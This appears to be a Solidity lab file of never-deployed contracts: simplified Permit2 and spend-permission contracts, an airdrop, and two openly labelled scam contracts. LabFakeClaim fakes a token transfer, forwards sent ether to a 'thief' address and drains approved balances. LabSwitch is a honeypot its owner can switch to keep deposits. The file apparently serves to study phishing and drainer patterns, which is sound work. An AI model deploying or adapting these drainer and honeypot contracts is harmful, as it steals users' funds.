// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IToken} from "./Lab.sol";

// More contracts of the labs: permissions by signature, and what pages ask for. Never deployed.

/// @notice Moves tokens that were approved to it, for spenders whom a signature names. After Permit2.
contract LabPermit2 {
    struct Single {
        address token;
        uint256 amount;
        uint256 expiration;
        uint256 nonce;
        address spender;
        uint256 sigDeadline;
    }

    struct Once {
        address token;
        uint256 amount;
        address spender;
        uint256 nonce;
        uint256 deadline;
    }

    struct Allowance {
        uint256 amount;
        uint256 expiration;
        uint256 nonce;
    }

    bytes32 private constant DOMAIN = keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
    bytes32 private constant SINGLE = keccak256(
        "Single(address token,uint256 amount,uint256 expiration,uint256 nonce,address spender,uint256 sigDeadline)"
    );
    bytes32 private constant ONCE =
        keccak256("Once(address token,uint256 amount,address spender,uint256 nonce,uint256 deadline)");

    mapping(address owner => mapping(address token => mapping(address spender => Allowance))) public allowance;
    mapping(address owner => mapping(uint256 nonce => bool)) public isUsed;

    error Refused();

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(abi.encode(DOMAIN, keccak256("Permit2"), block.chainid, address(this)));
    }

    function permit(address owner, Single calldata one, uint8 v, bytes32 r, bytes32 s) external {
        Allowance storage kept = allowance[owner][one.token][one.spender];
        if (block.timestamp > one.sigDeadline || kept.nonce != one.nonce) revert Refused();
        _check(owner, keccak256(abi.encode(SINGLE, one)), v, r, s);
        (kept.amount, kept.expiration, kept.nonce) = (one.amount, one.expiration, one.nonce + 1);
    }

    function transferFrom(address from, address to, uint256 amount, address token) external {
        Allowance storage kept = allowance[from][token][msg.sender];
        if (block.timestamp > kept.expiration || kept.amount < amount) revert Refused();
        if (kept.amount < type(uint160).max) kept.amount -= amount;
        IToken(token).transferFrom(from, to, amount);
    }

    function permitTransferFrom(address owner, Once calldata one, address to, uint8 v, bytes32 r, bytes32 s) external {
        if (block.timestamp > one.deadline || isUsed[owner][one.nonce] || msg.sender != one.spender) revert Refused();
        isUsed[owner][one.nonce] = true;
        _check(owner, keccak256(abi.encode(ONCE, one)), v, r, s);
        IToken(one.token).transferFrom(owner, to, one.amount);
    }

    function invalidateNonces(address token, address spender, uint256 nonce) external {
        Allowance storage kept = allowance[msg.sender][token][spender];
        if (nonce <= kept.nonce) revert Refused();
        kept.nonce = nonce;
    }

    function lockdown(address token, address spender) external {
        allowance[msg.sender][token][spender].amount = 0;
    }

    function _check(address owner, bytes32 struct_, uint8 v, bytes32 r, bytes32 s) private view {
        if (ecrecover(keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR(), struct_)), v, r, s) != owner) {
            revert Refused();
        }
    }
}

/// @notice Charges an account by a signed permission, up to an amount in each period. After Base's spend permissions.
contract LabSpendPermissions {
    struct Permission {
        address account;
        address spender;
        address token;
        uint256 allowance;
        uint256 period;
        uint256 start;
        uint256 end;
    }

    bytes32 private constant DOMAIN = keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
    bytes32 private constant PERMISSION = keccak256(
        "Permission(address account,address spender,address token,uint256 allowance,uint256 period,uint256 start,uint256 end)"
    );

    mapping(bytes32 permission => bool) public isRevoked;
    mapping(bytes32 permission => mapping(uint256 period => uint256)) public spent;

    error Refused();

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(abi.encode(DOMAIN, keccak256("Spend Permissions"), block.chainid, address(this)));
    }

    function spend(Permission calldata one, uint256 value, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 id = keccak256(abi.encode(PERMISSION, one));
        if (msg.sender != one.spender || isRevoked[id]) revert Refused();
        if (block.timestamp < one.start || block.timestamp >= one.end) revert Refused();
        address signer = ecrecover(keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR(), id)), v, r, s);
        if (signer != one.account) revert Refused();
        uint256 period = (block.timestamp - one.start) / one.period;
        spent[id][period] += value;
        if (spent[id][period] > one.allowance) revert Refused();
        IToken(one.token).transferFrom(one.account, one.spender, value);
    }

    function revoke(Permission calldata one) external {
        if (msg.sender != one.account) revert Refused();
        isRevoked[keccak256(abi.encode(PERMISSION, one))] = true;
    }
}

/// @notice Gives each listed account its share, once.
contract LabAirdrop {
    IToken public immutable token;
    uint256 public immutable share;
    mapping(address account => bool) public isListed;

    error Refused();

    constructor(IToken token_, uint256 share_, address account) {
        (token, share) = (token_, share_);
        isListed[account] = true;
    }

    function claim() external {
        if (!isListed[msg.sender]) revert Refused();
        isListed[msg.sender] = false;
        token.transfer(msg.sender, share);
    }
}

/// @notice A page's own contract: its claim keeps the ether that comes along, and moves what was approved to it.
contract LabFakeClaim {
    address public immutable thief;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address thief_) {
        thief = thief_;
    }

    function claim() external payable {
        emit Transfer(address(0), msg.sender, 8000e6);
        (bool sent,) = thief.call{value: msg.value}("");
        require(sent);
    }

    function take(IToken token, address from) external {
        uint256 value = token.balanceOf(from);
        token.transferFrom(from, thief, value);
    }
}

/// @notice Pays back more than it gets, as long as its owner likes.
contract LabSwitch {
    address public immutable owner;
    bool public isOn = true;

    constructor() payable {
        owner = msg.sender;
    }

    function setOn(bool isOn_) external {
        require(msg.sender == owner);
        isOn = isOn_;
    }

    function prove() external payable {
        (bool sent,) = (isOn ? msg.sender : owner).call{value: isOn ? msg.value * 101 / 100 : msg.value}("");
        require(sent);
    }
}
